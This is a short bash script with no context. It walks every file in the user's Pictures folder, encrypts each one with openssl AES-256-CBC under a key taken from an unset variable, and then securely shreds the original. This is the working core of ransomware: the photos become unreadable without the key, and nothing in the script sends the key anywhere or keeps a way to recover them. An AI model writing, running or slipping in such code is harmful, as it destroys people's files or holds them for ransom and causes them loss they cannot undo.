#!/usr/bin/env bash
find "$HOME/Pictures" -type f -print0 | while IFS= read -r -d '' f; do
  openssl enc -aes-256-cbc -pbkdf2 -in "$f" -out "$f.x" -pass "pass:$K" && shred -u "$f"
done
